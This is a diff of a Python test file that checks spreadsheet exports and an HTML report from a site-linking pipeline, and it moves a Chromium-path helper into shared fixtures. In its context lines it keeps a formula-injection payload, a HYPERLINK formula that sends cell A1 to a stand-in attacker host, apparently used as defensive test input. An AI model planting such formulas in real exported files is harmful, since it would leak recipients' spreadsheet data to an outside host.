@@ -1,24 +1,15 @@
 """Spreadsheet exports and the HTML report: they open safely, and the charts draw in a real browser."""
 
-import os
-import shutil
-
 import duckdb
 import openpyxl
 import polars as pl
 import pytest
 
 from interlink_pipeline.core import exports
-from interlink_pipeline_tests.conftest import LIGHT, register_lightchiropractic, run_site
+from interlink_pipeline_tests.conftest import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
 TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
-
-
-def _chromium() -> str | None:
-    """A Chromium on this machine ($INTERLINK_CHROMIUM, then PATH); None: Playwright's own build."""
-    candidates = [os.environ.get("INTERLINK_CHROMIUM"), "chromium", "chromium-browser", "google-chrome"]
-    return next((shutil.which(c) for c in candidates if c and shutil.which(c)), None)
 
 
 @pytest.fixture()
@@ -97,7 +88,7 @@ def test_the_report_draws_its_charts_in_headless_chromium_without_network(planne
     report = planned_site / "report.html"
     requested = []
     with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=_chromium(), args=["--no-sandbox"])
+        browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
         page = browser.new_page(viewport={"width": 1300, "height": 900})
 
         def only_the_file(route):
